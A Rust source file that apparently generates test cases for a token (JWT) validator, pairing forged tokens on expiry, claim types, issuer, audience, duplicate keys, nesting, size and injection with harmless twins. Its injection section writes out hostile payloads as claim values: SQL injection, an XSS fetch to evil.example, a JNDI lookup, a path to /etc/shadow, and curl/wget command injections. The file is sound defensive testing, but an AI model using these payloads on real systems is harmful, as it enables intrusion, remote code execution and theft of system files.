//! Claims: times, presence, types, audience, purpose, and text made to be misread.

use serde_json::{Value, json};

use super::{Case, Class, Credential, START, World};

pub(super) fn cases(_: &World, out: &mut Vec<Case>) {
    times(out);
    types(out);
    whose(out);
    structure(out);
    injections(out);
}

fn case(name: impl Into<String>, find: &'static str, attack: String, twin: String) -> Case {
    Case::taken(Class::Claims, name, &[find], attack, twin)
}

fn times(out: &mut Vec<Case>) {
    let good = Credential::new("ES256");
    let with = |name, value: Value| good.clone().claim(name, value).sign();
    // Both beyond or within the leeway of 60 s.
    let start = START as i64;
    let skew = with("exp", json!(start - 50));
    out.push(case(
        "expired 70 s ago",
        "token-expired",
        with("exp", json!(start - 70)),
        skew.clone(),
    ));
    out.push(case(
        "expired an hour ago",
        "token-expired",
        with("exp", json!(start - 3_600)),
        skew.clone(),
    ));
    out.push(case("expired at the epoch", "token-expired", with("exp", json!(0)), skew.clone()));
    out.push(case(
        "expired before the epoch",
        "token-expired",
        with("exp", json!(-1)),
        skew.clone(),
    ));
    out.push(case(
        "expired by a fraction",
        "token-expired",
        with("exp", json!(START as f64 - 60.5)),
        skew,
    ));
    let skew = with("nbf", json!(start + 50));
    out.push(case(
        "not yet for 70 s",
        "token-not-yet-valid",
        with("nbf", json!(start + 70)),
        skew.clone(),
    ));
    out.push(case(
        "not yet for a day",
        "token-not-yet-valid",
        with("nbf", json!(start + 86_400)),
        skew,
    ));
    let skew = with("iat", json!(start + 50));
    out.push(case(
        "issued in 70 s",
        "token-issued-in-future",
        with("iat", json!(start + 70)),
        skew.clone(),
    ));
    out.push(case(
        "issued in an hour",
        "token-issued-in-future",
        with("iat", json!(start + 3_000)),
        skew,
    ));
    let lives = |seconds: i64| with("exp", json!(start - 300 + seconds));
    out.push(case(
        "lives a second too long",
        "token-lifetime-too-long",
        lives(7_201),
        lives(7_200),
    ));
    out.push(case("lives ten years", "token-lifetime-too-long", lives(315_360_000), lives(7_200)));
}

fn types(out: &mut Vec<Case>) {
    let good = Credential::new("EdDSA");
    let twin = good.sign();
    for name in ["sub", "exp", "iat"] {
        let forged = good.clone().no_claim(name).sign();
        out.push(case(format!("{name} missing"), "claim-missing", forged, twin.clone()));
    }
    let later = (START + 3_000).to_string();
    for (name, value) in [
        ("sub", json!(1)),
        ("sub", json!(["ann"])),
        ("jti", json!(17)),
        ("exp", json!(later)),
        ("exp", Value::Null),
        ("nbf", json!("0")),
        ("iat", json!("1767322800")),
        ("aud", json!(["orders", 1])),
    ] {
        let forged = good.clone().claim(name, value.clone()).sign();
        let name = format!("{name} is {value}");
        out.push(case(name, "claim-wrong-type", forged, twin.clone()));
    }
}

/// Whose token it is, and for whom.
fn whose(out: &mut Vec<Case>) {
    let good = Credential::new("PS256");
    let twin = good.sign();
    let with = |name, value: &str| good.clone().claim(name, value).sign();
    for issuer in [
        "https://evil.example",
        "https://id.example/",
        "https://ID.example",
        "http://id.example",
        "",
    ] {
        let name = format!("iss {issuer:?}");
        out.push(case(name, "issuer-unknown", with("iss", issuer), twin.clone()));
    }
    let forged = good.clone().no_claim("iss").sign();
    out.push(case("iss missing", "issuer-unknown", forged, twin.clone()));
    for audience in ["payroll", "Orders", "orders ", ""] {
        let name = format!("aud {audience:?}");
        out.push(case(name, "audience-wrong", with("aud", audience), twin.clone()));
    }
    let listed = |all: Value| good.clone().claim("aud", all).sign();
    out.push(case(
        "aud a list without the service",
        "audience-wrong",
        listed(json!(["payroll", "mail"])),
        listed(json!(["payroll", "orders"])),
    ));
    out.push(case("aud an empty list", "audience-wrong", listed(json!([])), twin.clone()));
    let forged = good.clone().no_claim("aud").sign();
    out.push(case("aud missing", "audience-wrong", forged, twin));
    let plain = good.clone().header("typ", "JWT");
    for (name, value) in [
        ("at_hash", "LDktKdoQak3Pk0cnXxCltA"),
        ("c_hash", "LDktKdoQak3Pk0cnXxCltA"),
        ("s_hash", "LDktKdoQak3Pk0cnXxCltA"),
        ("typ", "ID"),
        ("token_use", "id"),
    ] {
        let forged = plain.clone().claim(name, value).sign();
        let twin = match name {
            "typ" => plain.clone().claim(name, "Bearer").sign(),
            "token_use" => plain.clone().claim(name, "access").sign(),
            // The header says what it is.
            _ => good.clone().claim(name, value).sign(),
        };
        let name = format!("an ID token, by {name}");
        out.push(case(name, "id-token-as-access-token", forged, twin));
    }
}

fn structure(out: &mut Vec<Case>) {
    let good = Credential::new("RS256");
    let claims = good.claims_json();
    let open = claims.strip_suffix('}').expect("an object");
    let with = |more: &str| good.sign_claims(&format!("{open},{more}}}"));
    let twin = with(r#""realm":{"role":"user"},"list":[1]"#);
    for (name, more) in [
        ("sub twice", r#""sub":"root""#),
        ("sub twice, once in escapes", r#""s\u0075b":"root""#),
        ("a claim twice in a claim", r#""realm":{"role":"user","role":"admin"}"#),
        ("a claim twice in a list", r#""list":[{"a":1,"a":2}]"#),
    ] {
        out.push(case(name, "token-duplicate-key", with(more), twin.clone()));
    }
    let nested =
        |levels: usize| with(&format!(r#""deep":{}1{}"#, "[".repeat(levels), "]".repeat(levels)));
    // The claims themselves are the first level.
    out.push(case("33 levels", "token-too-deep", nested(32), nested(31)));
    out.push(case("1000 levels", "token-too-deep", nested(1_000), nested(31)));
    let padded = |bytes: usize| with(&format!(r#""pad":"{}""#, "x".repeat(bytes)));
    out.push(case("20 KiB", "token-too-large", padded(14_600), padded(11_000)));
    let values = |count: usize| with(&format!(r#""list":[1{}]"#, ",1".repeat(count - 1)));
    out.push(case("5,000 values", "token-too-large", values(5_000), values(4_000)));
    for (name, claims) in [
        ("claims that are a list", format!("[{claims}]")),
        ("claims with text behind", format!("{claims} x")),
        ("claims with a comma too many", format!("{open},}}")),
        ("claims in single quotes", claims.replace('"', "'")),
    ] {
        let forged = good.sign_claims(&claims);
        out.push(case(name, "token-malformed", forged, good.sign()));
    }
}

fn injections(out: &mut Vec<Case>) {
    let good = Credential::new("ES512");
    for (name, text, harmless) in [
        ("SQL", "ann' OR '1'='1", "Ann O'Brien or 'Ann'"),
        ("SQL that drops", "ann'; DROP TABLE users; --", "Ann; drops tables"),
        ("a script", "<script>fetch('//evil.example')</script>", "Ann <ann@shop.example>"),
        ("a script in a handler", "<img src=x onerror=alert(1)>", "1 < 2"),
        ("a look-up", "${jndi:ldap://evil.example/a}", "$ 5, {net}"),
        ("a path", "../../../../etc/shadow", "and/or"),
        ("a command", "ann; curl evil.example", "Ann; likes cats"),
        ("a command substituted", "$(wget evil.example)", "$(5)"),
    ] {
        let forged = good.clone().claim("name", text).sign();
        let twin = good.clone().claim("name", harmless).sign();
        out.push(case(format!("{name} in a claim"), "claim-injection", forged, twin));
    }
    let listed = |text: &str| good.clone().claim("names", json!(["ann", text])).sign();
    let twin = listed("anna");
    out.push(case("SQL in a list", "claim-injection", listed("x' or 1=1 --"), twin));
}
